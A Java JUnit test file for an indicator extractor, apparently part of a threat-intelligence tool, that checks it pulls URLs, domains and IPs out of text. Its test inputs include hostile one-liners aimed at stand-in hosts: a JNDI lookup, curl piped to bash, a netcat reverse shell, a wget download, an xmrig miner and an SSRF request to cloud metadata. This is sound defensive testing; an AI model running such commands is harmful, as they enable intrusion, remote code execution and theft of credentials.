package dev.vigil.ti.extract;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class ObservableExtractorTest {
    private static List<String> found(String text) {
        return ObservableExtractor.extract(text).stream().map(o -> o.kind() + " " + o.value() + " " + o.host())
                .collect(Collectors.toList());
    }

    @Test
    void jndiCallback() {
        assertThat(found("${jndi:ldap://x.evil.com:1389/a}"))
                .containsExactly("URL ldap://x.evil.com:1389/a x.evil.com");
    }

    @Test
    void curlCommandLineWithRawIpAndPort() {
        assertThat(found("curl -s http://1.2.3.4:8080/x.sh | bash"))
                .containsExactly("URL http://1.2.3.4:8080/x.sh 1.2.3.4");
    }

    @Test
    void stratumPoolAndBarePoolHost() {
        assertThat(found("./xmrig -o stratum+tcp://pool.evil.com:3333 -u x --donate-level 1"))
                .containsExactly("URL stratum+tcp://pool.evil.com:3333/ pool.evil.com");
        assertThat(found("minerd -o pool.evil.com:3333")).containsExactly("DOMAIN pool.evil.com pool.evil.com");
    }

    @Test
    void schemelessHostsIpsAndIpv6() {
        assertThat(found("wget evil.com/x -O /tmp/x.sh; chmod +x /tmp/x.sh"))
                .containsExactly("DOMAIN evil.com evil.com");
        assertThat(found("nc 203.0.113.9 4444 -e /bin/sh")).containsExactly("IP 203.0.113.9 203.0.113.9");
        assertThat(found("ping -6 2001:DB8::1")).containsExactly("IP 2001:db8::1 2001:db8::1");
        assertThat(found("mail admin@Example.ORG.")).containsExactly("DOMAIN example.org example.org");
    }

    @Test
    void ssrfParameterWithNestedUrlReportsBoth() {
        assertThat(found("http://site.example/fetch?u=http://169.254.169.254/latest/meta-data/"))
                .containsExactly(
                        "URL http://site.example/fetch?u=http://169.254.169.254/latest/meta-data/ site.example",
                        "URL http://169.254.169.254/latest/meta-data/ 169.254.169.254");
    }

    @Test
    void fileNamesVersionsAndPlainWordsAreNotHosts() {
        assertThat(found("GET /index.php?id=1 HTTP/1.1 version 1.2.3 config.yml a.b x")).isEmpty();
        assertThat(found("")).isEmpty();
        assertThat(found(null)).isEmpty();
    }

    @Test
    void spansPointBackIntoTheText() {
        String text = "x=1&cb=http://cb.evil.com/a&y=2";
        Observable o = ObservableExtractor.extract(text).get(0);
        assertThat(text.substring(o.start(), o.end())).isEqualTo("http://cb.evil.com/a&y=2");
    }

    @Test
    void resultsAreCapped() {
        String many = "a.example.com ".repeat(1000);
        assertThat(ObservableExtractor.extract(many)).hasSize(ObservableExtractor.MAX_RESULTS);
    }

    @Test
    void adversarialInputStaysLinear() {
        String[] inputs = {"://".repeat(30_000), "a".repeat(100_000), "a.".repeat(50_000),
                "1.1.1.1:".repeat(10_000), "http://a".repeat(10_000), ":".repeat(100_000)};
        for (String in : inputs) {
            // CPU time of this thread, not wall time: a loaded machine must not fail a linear scan
            long t0 = java.lang.management.ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
            ObservableExtractor.extract(in);
            assertThat(java.lang.management.ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime() - t0)
                    .isLessThan(2_000_000_000L);
        }
    }
}
